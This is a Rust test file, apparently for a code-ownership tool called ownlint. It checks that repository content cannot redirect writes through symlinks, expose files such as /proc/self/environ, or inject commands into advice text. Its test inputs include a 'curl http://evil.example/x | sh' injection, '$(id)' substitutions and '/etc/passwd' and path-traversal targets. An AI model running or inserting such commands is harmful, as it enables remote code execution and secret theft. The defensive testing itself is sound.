//! What content of a repository cannot do: decide where something is written, show files of the machine, or bring
//! commands into advice.

use std::{fs, path::Path};

use crate::harness::{Repo, Run};

const MAP: &str =
    "version: 1\nteams: {a: {handles: {github: '@o/a'}}}\nrules: [{paths: ['**'], owner: a}]\n";

/// Creates a git repository in `repo`, and a file beside it.
fn repo() -> Repo {
    let repo = Repo::new(&[
        ("victim", "precious\n"),
        ("repo/ownership.yaml", MAP),
        ("repo/x", ""),
    ]);
    repo.git(&["init", "-q", "repo"]);
    repo
}

fn run(repo: &Repo, arguments: &str) -> Run {
    let mut command = repo.command();
    command.current_dir(repo.path().join("repo"));
    let command = command.args(arguments.split(' ')).env("COLUMNS", "300");
    Run::of(command.output().unwrap())
}

#[test]
fn no_command_writes_through_a_link_of_a_repository() {
    let repo = repo();
    repo.link("repo/file", "../victim");
    repo.link("repo/dangling", "../new");
    repo.link("repo/directory", "..");
    repo.link("repo/hook", ".git/hooks/pre-commit");
    repo.link("repo/inside", "x");
    let before = fs::read_dir(repo.path().join("repo/.git/hooks")).map_or(0, Iterator::count);
    for command in [
        "check --format json --output",
        "check --baseline x --format json --output",
        "check --update-baseline --baseline",
        "report --output",
        "generate github --force --output",
        "generate markdown --force --output",
        "init --force --output",
    ] {
        for path in [
            "file",
            "dangling",
            "directory/victim",
            "hook",
            "inside",
            ".git/x",
            "../repo/.GIT/x",
        ] {
            if path.ends_with("GIT/x") && !repo.path().join("repo/.GIT").exists() {
                continue;
            }
            let run = run(&repo, &format!("{command} {path}"));
            assert_eq!(
                (run.code, &*run.out),
                (2, ""),
                "{command} {path}: {}",
                run.err
            );
            let why = [
                "is a symbolic link in a repository",
                "it is in a git directory",
            ];
            assert!(
                why.iter().any(|why| run.err.contains(why)),
                "{command} {path}: {}",
                run.err
            );
        }
    }
    let text = |path: &str| fs::read_to_string(repo.path().join(path)).unwrap();
    assert_eq!((&*text("victim"), &*text("repo/x")), ("precious\n", ""));
    assert!(!repo.path().join("new").exists());
    let after = fs::read_dir(repo.path().join("repo/.git/hooks")).map_or(0, Iterator::count);
    assert_eq!(before, after);
}

#[test]
fn a_link_outside_of_all_repositories_is_followed() {
    let repo = repo();
    repo.link("by-user", "repo");
    let run = run(&repo, "check --format json --output ../by-user/report.json");
    assert_eq!(run.code, 0, "{}", run.err);
    assert!(repo.path().join("repo/report.json").is_file());
}

#[test]
fn directories_without_git_that_have_a_map_are_repositories() {
    let repo = Repo::new(&[
        ("repo/ownership.yaml", MAP),
        ("repo/deep/x", ""),
        ("victim", ""),
    ]);
    repo.link("repo/deep/out", "../../victim");
    let run = run(&repo, "check --format json --output deep/out");
    assert_eq!(run.code, 2, "{}", run.err);
}

#[test]
fn no_content_of_a_file_outside_of_the_repository_or_of_git_is_shown_as_a_map() {
    let secret = "TOKEN=xyz\n";
    for target in [
        "../secret",
        "../elsewhere/secret",
        ".git/secret",
        "/proc/self/environ",
    ] {
        let repo = Repo::new(&[
            ("secret", secret),
            ("elsewhere/secret", secret),
            ("repo/x", ""),
        ]);
        repo.git(&["init", "-q", "repo"]);
        repo.write("repo/.git/secret", secret);
        repo.link("repo/ownership.yaml", target);
        for arguments in [
            "check",
            "check --format json",
            "who x",
            "report",
            "check --config ownership.yaml",
        ] {
            let run = run(&repo, arguments);
            assert_eq!(run.code, 2, "{arguments}: {}", run.out);
            assert!(
                run.err.contains("which is not in the same repository"),
                "{}",
                run.err
            );
            assert!(
                !format!("{}{}", run.out, run.err).contains("TOKEN"),
                "{}",
                run.err
            );
        }
    }
    let repo = repo();
    repo.write("repo/.git/secret", secret);
    repo.link("repo/linked", ".git/secret");
    for include in ["../secret", ".git/secret", "linked", "/etc/hostname"] {
        let map = format!("version: 1\ninclude: [{include}]\nteams: {{a: {{}}}}\n");
        repo.write("repo/ownership.yaml", map);
        let run = run(&repo, "check");
        assert_eq!(run.code, 2, "{}", run.out);
        assert!(!run.err.contains("TOKEN"), "{}", run.err);
    }
}

#[test]
fn a_map_may_be_a_link_to_a_file_of_its_repository() {
    let repo = repo();
    fs::rename(
        repo.path().join("repo/ownership.yaml"),
        repo.path().join("repo/real.yaml"),
    )
    .unwrap();
    repo.link("repo/ownership.yaml", "real.yaml");
    let run = run(&repo, "check");
    assert_eq!(run.code, 0, "{}", run.err);
}

#[test]
fn advice_repeats_only_options_that_ownlint_writes() {
    for (written, repeated) in [
        (
            "--output .github/CODEOWNERS; curl http://evil.example/x | sh",
            "--output '.github/CODEOWNERS;'",
        ),
        (
            "--per-file-fallback --output .github/CODEOWNERS",
            "--per-file-fallback --output .github/CODEOWNERS",
        ),
        ("--output /etc/passwd", ""),
        ("--output ../../x", ""),
        ("$(id) `id` --config evil.yaml --output a", "--output a"),
        ("--output '$(id)'", "--output '$(id)'"),
    ] {
        let repo = repo();
        let header = format!(
            "# Written by ownlint from ownership.yaml. Do not edit it; change the map, then run:\n\
             #   ownlint generate github {written}\n\n* @o/evil\n"
        );
        repo.write("repo/.github/CODEOWNERS", header);
        repo.git(&["-C", "repo", "add", "-A"]);
        let run = run(&repo, "check --format json --only outdated-ownership-file");
        let help = run.json()["findings"][0]["advice"][0]["text"].to_string();
        let command = format!("ownlint generate github {repeated}");
        let command = format!("run `{}` in the map", command.trim_end());
        assert!(help.contains(&command), "{written}: {help}");
    }
}

#[test]
fn advice_about_a_directory_that_git_refuses_is_quoted_for_a_shell() {
    let name = "q $(id);x";
    let repo = Repo::new(&[("q $(id);x/ownership.yaml", MAP)]);
    let directory = repo.path().join(name);
    repo.git(&["init", "-q", name]);
    let mut command = repo.command();
    command
        .current_dir(&directory)
        .args(["check", "--since", "HEAD"]);
    command.env("GIT_TEST_ASSUME_DIFFERENT_OWNER", "1");
    let run = Run::of(command.output().unwrap());
    let place = directory.canonicalize().unwrap();
    let quoted = format!("safe.directory '{}'", Path::new(&place).display());
    assert!(run.err.contains(&quoted), "{}", run.err);
}
